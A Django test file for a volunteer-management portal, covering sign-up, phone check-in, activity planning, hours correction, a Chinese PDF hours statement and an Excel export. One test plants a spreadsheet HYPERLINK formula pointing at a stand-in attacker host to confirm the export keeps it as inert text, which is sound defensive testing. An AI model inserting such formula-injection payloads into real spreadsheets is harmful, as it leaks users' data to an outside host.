"""The volunteers' pages: who sees what (the cast), signing up and checking in from a
phone, planning, the roll, the statement and the export; bad input is a message."""

from __future__ import annotations

import io
import uuid
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.pdffonts import assert_fonts_embedded
from tests.volunteers.conftest import (
    VolunteerWorld,
    after_end,
    before_start,
    cast,
    checked_in,
    started,
)
from volunteers import services
from volunteers.models import (
    Activity,
    HoursEntry,
    MemberStatus,
    SignUpStatus,
    Volunteer,
    VolunteerKind,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english(client):
    # Page texts are checked in English: the language switch remembers it in a cookie.
    client.cookies["django_language"] = "en"


# --- Signing up and checking in ----------------------------------------------------------------


def test_a_member_signs_up_from_the_page_and_then_waits_when_full(client, vw):
    activity = vw.activity(capacity=1)
    client.force_login(vw.tenant)
    page = client.post(
        reverse("volunteers:sign-up", args=[activity.pk]), {"kind": "serve"}, follow=True
    )
    assert "has a place." in page.content.decode()
    other = vw.volunteer("李四")
    client.force_login(other.user)
    page = client.post(
        reverse("volunteers:sign-up", args=[activity.pk]), {"kind": "serve"}, follow=True
    )
    assert "on the waiting list" in page.content.decode()
    assert list(activity.signups.values_list("status", flat=True)) == ["signed_up", "waiting"]


def test_once_signed_up_the_page_shows_the_place_and_a_second_press_changes_nothing(client, vw):
    activity = vw.activity()
    url = reverse("volunteers:activity", args=[activity.pk])
    client.force_login(vw.tenant)
    page = client.get(url).content.decode()
    assert 'data-testid="sign-up-serve"' in page
    first = client.post(reverse("volunteers:sign-up", args=[activity.pk]), {"kind": "serve"})
    page = client.get(first["Location"]).content.decode()
    assert 'data-testid="sign-up-serve"' not in page  # not offered again
    assert 'data-testid="my-signup-status">Signed up<' in page
    assert 'data-testid="do-cancel"' in page
    # The page was left open on another phone: the button is pressed again.
    again = client.post(
        reverse("volunteers:sign-up", args=[activity.pk]), {"kind": "serve"}, follow=True
    ).content.decode()
    assert "has a place" not in again
    assert "was signed up already (Signed up): nothing changed." in again
    signup = activity.signups.get()
    assert signup.events.count() == 1


def test_serving_and_taking_part_say_how_they_differ(client, vw):
    activity = vw.activity(audience="residents")
    # The tenant is a member of the team and a resident of the community: both offered.
    client.force_login(vw.tenant)
    page = client.get(reverse("volunteers:activity", args=[activity.pk])).content.decode()
    assert "Serve as a volunteer" in page
    assert "earn service hours" in page
    assert "You do not take a resident's place." in page
    assert "Take part as a resident" in page
    assert "No service hours." in page
    assert "Book a resident's place" in page


def test_the_places_of_an_activity_open_to_residents_count_the_volunteers_apart(client, vw):
    activity = vw.activity(audience="residents", capacity=20)
    services.signup_create(activity=activity, actor=vw.tenant, kind="serve")
    client.force_login(vw.neighbour)
    page = client.get(reverse("volunteers:activity", args=[activity.pk])).content.decode()
    assert "Residents' places" in page
    assert 'data-testid="places">0 of 20 taken<' in page
    assert 'data-testid="serving-count">1 signed up<' in page
    services.signup_create(activity=activity, actor=vw.neighbour)
    services.signup_create(activity=activity, actor=vw.neighbour, name="钱小宝")
    page = client.get(reverse("volunteers:activity", args=[activity.pk])).content.decode()
    assert 'data-testid="places">2 of 20 taken<' in page
    listed = client.get(reverse("volunteers:activities")).content.decode()
    assert "2/20 residents' places" in listed
    assert 'data-testid="serving-count">1 volunteer serving<' in listed


def test_a_parent_books_a_place_for_a_child(client, vw):
    activity = vw.activity(audience="residents", title="四点半课堂")
    client.force_login(vw.neighbour)
    client.post(
        reverse("volunteers:sign-up", args=[activity.pk]),
        {"kind": "attend", "name": "钱小宝", "note": "三年级"},
    )
    signup = activity.signups.get()
    assert (signup.name, signup.note, signup.booked_by) == ("钱小宝", "三年级", vw.neighbour)
    page = client.get(reverse("volunteers:mine")).content.decode()
    assert "钱小宝" in page


def test_sign_up_after_the_start_is_refused_with_a_message(client, vw):
    activity = started(vw.activity())
    client.force_login(vw.tenant)
    page = client.post(
        reverse("volunteers:sign-up", args=[activity.pk]), {"kind": "serve"}, follow=True
    )
    assert "Sign-up closed when the activity started" in page.content.decode()
    assert not activity.signups.exists()


def test_the_check_in_page_checks_in_and_out_on_a_button_and_credits_the_hours(client, vw):
    activity = vw.activity()
    services.signup_create(activity=activity, actor=vw.tenant)
    url = reverse("volunteers:check-in", args=[activity.pk, services.checkin_code(activity)])
    client.force_login(vw.tenant)
    before_start(vw, activity)
    page = client.get(url).content.decode()
    assert 'data-testid="do-check-in"' in page
    assert activity.signups.get().status == SignUpStatus.SIGNED_UP  # a GET changes nothing
    response = client.post(url, {"action": "check_in"}, follow=True)
    assert "Checked in." in response.content.decode()
    assert activity.signups.get().status == SignUpStatus.CHECKED_IN
    assert not HoursEntry.objects.exists()
    assert 'data-testid="do-check-in"' not in client.get(url).content.decode()
    after_end(vw, activity)
    response = client.post(url, {"action": "check_out"}, follow=True)
    assert "Checked out." in response.content.decode()
    assert activity.signups.get().status == SignUpStatus.ATTENDED
    assert HoursEntry.objects.get().hours == activity.hours
    assert 'data-testid="do-check-out"' not in client.get(url).content.decode()


def test_a_code_of_another_activity_shows_why_and_checks_nobody_in(client, vw):
    activity = vw.activity()
    services.signup_create(activity=activity, actor=vw.tenant)
    other = vw.activity(title="另一场")
    url = reverse("volunteers:check-in", args=[activity.pk, services.checkin_code(other)])
    client.force_login(vw.tenant)
    page = client.get(url)
    assert "This check-in code is for another activity." in page.content.decode()
    assert client.post(url).status_code == 400
    junk = reverse("volunteers:check-in", args=[activity.pk, "not-a-code"])
    assert "not a check-in code of ours" in client.post(junk).content.decode()
    assert activity.signups.get().status == SignUpStatus.SIGNED_UP


def test_the_leader_ticks_the_roll_and_corrects_hours_from_the_page(client, vw):
    activity = vw.activity()
    signup = services.signup_create(activity=activity, actor=vw.tenant)
    client.force_login(vw.leader_a)
    client.post(reverse("volunteers:signup-act", args=[signup.pk, "mark_attended"]))
    page = client.post(
        reverse("volunteers:signup-hours", args=[signup.pk]),
        {"hours": "2.5", "reason": "提前到场"},
        follow=True,
    ).content.decode()
    assert "Hours corrected" in page
    assert sorted(HoursEntry.objects.values_list("hours", flat=True)) == [0.5, 2]
    page = client.post(
        reverse("volunteers:signup-hours", args=[signup.pk]),
        {"hours": "abc", "reason": ""},
        follow=True,
    )
    assert page.status_code == 200
    assert HoursEntry.objects.count() == 2


# --- Planning and changing --------------------------------------------------------------------


def activity_form(vw: VolunteerWorld, **data) -> dict:
    body = {
        "project": vw.knives.pk,
        "title": "磨剪子戗菜刀",
        "place": "北门",
        "day": (timezone.localdate() + timedelta(days=2)).isoformat(),
        "starts": "09:00",
        "ends": "11:30",
        "capacity": "6",
        "audience": "residents",
        "hours": "",
        "description": "",
        "token": str(uuid.uuid4()),
    }
    body.update(data)
    return body


def test_the_leader_plans_an_activity_once_however_often_the_form_is_sent(client, vw):
    client.force_login(vw.leader_a)
    assert client.get(reverse("volunteers:activity-new")).status_code == 200
    data = activity_form(vw)
    first = client.post(reverse("volunteers:activity-new"), data)
    second = client.post(reverse("volunteers:activity-new"), data)
    activity = Activity.objects.get()
    assert (
        first["Location"]
        == second["Location"]
        == reverse("volunteers:activity", args=[activity.pk])
    )
    assert (activity.hours, activity.capacity, activity.audience) == (2.5, 6, "residents")


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"ends": "08:00"}, "The activity must end after it starts."),
        ({"capacity": "abc"}, "Enter a whole number."),
        ({"capacity": "0"}, "greater than or equal to 1"),
        ({"day": "2020-01-01"}, "The start must be in the future."),
        ({"project": "999999"}, "Select a valid choice."),
        ({"hours": "99"}, "less than or equal to 24"),
    ],
)
def test_a_bad_activity_form_says_why_and_saves_nothing(client, vw, change, message):
    client.force_login(vw.leader_a)
    response = client.post(reverse("volunteers:activity-new"), activity_form(vw, **change))
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Activity.objects.exists()


def test_another_teams_project_is_not_a_choice(client, vw):
    client.force_login(vw.leader_a)
    response = client.post(
        reverse("volunteers:activity-new"), activity_form(vw, project=vw.mending.pk)
    )
    assert response.status_code == 400
    assert not Activity.objects.exists()


def test_fewer_places_than_taken_is_refused_on_the_page(client, vw):
    activity = vw.activity(capacity=1)
    services.signup_create(activity=activity, actor=vw.tenant)
    start = timezone.localtime(activity.starts_at)
    client.force_login(vw.leader_a)
    response = client.post(
        reverse("volunteers:activity-edit", args=[activity.pk]),
        {
            "title": "改期",
            "place": "北门",
            "day": start.date().isoformat(),
            "starts": "15:00",
            "ends": "14:00",
            "capacity": "1",
            "version": activity.version,
        },
    )
    assert response.status_code == 400
    assert "must end after it starts" in response.content.decode()
    activity.refresh_from_db()
    assert (activity.title, activity.version) == ("磨剪子戗菜刀", 1)


def test_cancelling_needs_a_reason_and_then_tells_everyone(client, vw):
    activity = vw.activity()
    services.signup_create(activity=activity, actor=vw.tenant)
    client.force_login(vw.leader_a)
    assert (
        client.post(
            reverse("volunteers:activity-cancel", args=[activity.pk]), {"reason": ""}
        ).status_code
        == 400
    )
    client.post(reverse("volunteers:activity-cancel", args=[activity.pk]), {"reason": "暴雨"})
    assert activity.signups.get().status == SignUpStatus.CANCELLED


def test_an_unknown_action_is_a_message_not_an_error(client, vw):
    signup = services.signup_create(activity=vw.activity(), actor=vw.tenant)
    client.force_login(vw.tenant)
    page = client.post(reverse("volunteers:signup-act", args=[signup.pk, "explode"]), follow=True)
    assert page.status_code == 200
    assert "Unknown action." in page.content.decode()
    member = vw.team_a.members.get()
    page = client.post(reverse("volunteers:member-act", args=[member.pk, "explode"]), follow=True)
    assert "Unknown action." in page.content.decode()


def test_joining_from_the_page_and_the_leader_approving(client, vw):
    client.force_login(vw.neighbour)
    client.post(reverse("volunteers:team-join", args=[vw.team_a.pk]))
    member = vw.team_a.members.get(volunteer__user=vw.neighbour)
    assert member.status == MemberStatus.PENDING
    client.force_login(vw.leader_a)
    page = client.get(reverse("volunteers:team", args=[vw.team_a.pk])).content.decode()
    assert 'data-testid="approve"' in page
    client.post(reverse("volunteers:member-act", args=[member.pk, "approve"]))
    member.refresh_from_db()
    assert member.status == MemberStatus.APPROVED


def test_a_volunteer_writes_their_skills_and_availability(client, vw):
    client.force_login(vw.tenant)
    client.post(
        reverse("volunteers:volunteer-profile", args=[vw.member.pk]),
        {"skills": "缝纫", "availability": "周末"},
    )
    vw.member.refresh_from_db()
    assert (vw.member.skills, vw.member.availability) == ("缝纫", "周末")
    assert client.get(reverse("volunteers:my-hours"))["Location"] == reverse(
        "volunteers:volunteer", args=[vw.member.pk]
    )


# --- The statement and the export -------------------------------------------------------------


def test_the_statement_is_a_chinese_pdf_with_every_activity_and_the_total(client, vw):
    signup = checked_in(vw)
    services.hours_correct(signup=signup, actor=vw.leader_a, hours=3, reason="帮忙收尾")
    client.force_login(vw.tenant)
    response = client.get(reverse("volunteers:statement", args=[vw.member.pk]))
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    assert reader.metadata.title == f"志愿服务时长证明 {vw.member.name}"
    text = "".join(page.extract_text() for page in reader.pages)
    assert "志愿服务时长证明" in text
    assert vw.member.name in text
    assert "磨剪子戗菜刀" in text
    assert "更正：帮忙收尾" in text
    assert "累计志愿服务时长 3.0 小时" in text
    assert_fonts_embedded(response.content)


def test_the_statement_names_the_kind_of_volunteer_in_chinese_for_an_english_reader(client, vw):
    Volunteer.objects.filter(pk=vw.member.pk).update(kind=VolunteerKind.PARTY_MEMBER)
    checked_in(vw)
    client.force_login(vw.tenant)  # reads the portal in English (the cookie)
    response = client.get(reverse("volunteers:statement", args=[vw.member.pk]))
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert f"{vw.member.name}（党员志愿者）" in text
    assert "volunteer" not in text.lower()


def test_the_excel_export_has_the_hours_the_projects_and_the_ledger(client, vw):
    checked_in(vw)
    client.force_login(vw.leader_a)
    response = client.get(reverse("volunteers:report-xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["Volunteers", "Teams", "Projects", "Ledger"]
    assert [c.value for c in wb["Volunteers"][3]] == [vw.member.name, 1, 2.0]
    assert wb["Ledger"].max_row == 2
    bad = client.get(reverse("volunteers:report"), {"since": "2026-05-12", "until": "2026-01-01"})
    assert bad.status_code == 400
    assert client.get(reverse("volunteers:report-xlsx"), {"since": "nonsense"}).status_code == 200


def test_text_that_looks_like_a_formula_stays_text_in_the_excel(client, vw):
    formula = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
    signup = checked_in(vw)
    services.hours_correct(signup=signup, actor=vw.leader_a, hours=Decimal(3), reason=formula)
    client.force_login(vw.leader_a)
    wb = load_workbook(io.BytesIO(client.get(reverse("volunteers:report-xlsx")).content))
    reason = wb["Ledger"].cell(row=3, column=8)
    assert (reason.data_type, reason.value) == ("s", formula)  # "f" would be a live formula
    assert reason.quotePrefix


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_the_report_refuses_a_period_it_cannot_count_and_a_file_keeps_its_default(client, vw, day):
    client.force_login(vw.leader_a)
    for field in ("since", "until"):
        response = client.get(reverse("volunteers:report"), {field: day})
        assert response.status_code == 400
        assert "Enter a date from 1900-01-01 to 2999-12-31." in response.content.decode()
    # The files cover the last twelve months when the period is not one (as for "nonsense").
    assert client.get(reverse("volunteers:report-xlsx"), {"since": day}).status_code == 200
    statement = reverse("volunteers:statement", args=[vw.member.pk])
    assert client.get(statement, {"until": day}).status_code == 200


def test_the_leader_puts_a_member_who_came_unannounced_on_the_roll(client, vw):
    activity = started(vw.activity())
    outsider = services.volunteer_add(team=vw.team_b, actor=vw.leader_b, name="老周").volunteer
    client.force_login(vw.leader_a)
    detail = reverse("volunteers:activity", args=[activity.pk])
    assert 'data-testid="action-roll"' in client.get(detail).content.decode()
    url = reverse("volunteers:roll-add", args=[activity.pk])
    assert client.post(url, {"volunteer": outsider.pk}).status_code == 400  # not of this team
    page = client.post(url, {"volunteer": vw.member.pk}, follow=True).content.decode()
    assert "is on the roll." in page
    signup = activity.signups.get()
    assert (signup.volunteer, signup.booked_by, signup.status) == (vw.member, None, "signed_up")
    client.post(reverse("volunteers:signup-act", args=[signup.pk, "mark_attended"]))
    assert HoursEntry.objects.get(signup=signup).recorded_by == vw.leader_a


def test_changing_an_activity_that_has_started_says_why(client, vw):
    activity = vw.activity()
    version = activity.version
    started(activity)
    client.force_login(vw.leader_a)
    response = client.post(
        reverse("volunteers:activity-edit", args=[activity.pk]),
        {
            "title": "改期",
            "place": "北门",
            "day": (timezone.localdate() + timedelta(days=3)).isoformat(),
            "starts": "09:00",
            "ends": "10:00",
            "capacity": "3",
            "version": version,
        },
    )
    assert response.status_code == 400
    assert "can no longer be changed" in response.content.decode()
    activity.refresh_from_db()
    assert activity.title == "磨剪子戗菜刀"


JUNK = [
    {},
    {"kind": "x", "resident": "abc", "name": "x" * 500, "note": "y" * 5000, "volunteer": "9"},
    {"capacity": "-5", "day": "2026-02-30", "starts": "25:00", "ends": "x", "version": "v"},
    {"hours": "1e9", "reason": "", "walk_ins": "-1", "category": "rockets", "phone": "12345"},
]


@pytest.mark.parametrize("who", ["leader_a", "neighbour"])
def test_no_junk_gets_a_server_error(client, vw, who):
    activity = vw.activity()
    signup = services.signup_create(activity=activity, actor=vw.tenant)
    member = vw.team_a.members.get()
    client.force_login(cast(vw, who))
    posts = [
        reverse("volunteers:activity-new"),
        reverse("volunteers:activity-edit", args=[activity.pk]),
        reverse("volunteers:activity-cancel", args=[activity.pk]),
        reverse("volunteers:activity-walk-ins", args=[activity.pk]),
        reverse("volunteers:sign-up", args=[activity.pk]),
        reverse("volunteers:roll-add", args=[activity.pk]),
        reverse("volunteers:check-in", args=[activity.pk, "junk:junk"]),
        reverse("volunteers:signup-act", args=[signup.pk, "mark_no_show"]),
        reverse("volunteers:signup-hours", args=[signup.pk]),
        reverse("volunteers:team-new"),
        reverse("volunteers:team-edit", args=[vw.team_a.pk]),
        reverse("volunteers:team-join", args=[vw.team_a.pk]),
        reverse("volunteers:project-new", args=[vw.team_a.pk]),
        reverse("volunteers:volunteer-add", args=[vw.team_a.pk]),
        reverse("volunteers:member-act", args=[member.pk, "approve"]),
        reverse("volunteers:volunteer-profile", args=[vw.member.pk]),
    ]
    for url in posts:
        for data in JUNK:
            assert client.post(url, data).status_code < 500, (url, data)
    gets = [
        reverse("volunteers:activities") + "?when=x&team=abc&page=-3",
        reverse("volunteers:mine") + "?page=zz",
        reverse("volunteers:report") + "?since=yesterday&until=2026-13-01&page=9999",
        reverse("volunteers:report-xlsx") + "?since=1&until=2",
        reverse("volunteers:statement", args=[vw.member.pk]) + "?since=x",
        reverse("volunteers:activity-new") + "?project=99999",
    ]
    for url in gets:
        assert client.get(url).status_code < 500, url
    signup.refresh_from_db()
    assert signup.status == SignUpStatus.SIGNED_UP


@pytest.mark.parametrize("value", ["²", "99999999999999999999999", "abc"])
def test_odd_ids_in_query_strings_and_forms_are_ignored_not_an_error(client, vw, value):
    client.force_login(vw.leader_a)
    assert client.get(reverse("volunteers:activities") + f"?team={value}").status_code == 200
    new = client.get(reverse("volunteers:activity-new") + f"?project={value}")
    assert new.status_code == 200
    made = client.post(reverse("volunteers:team-new"), {"name": "新队", "parent": value})
    assert made.status_code in (200, 302)
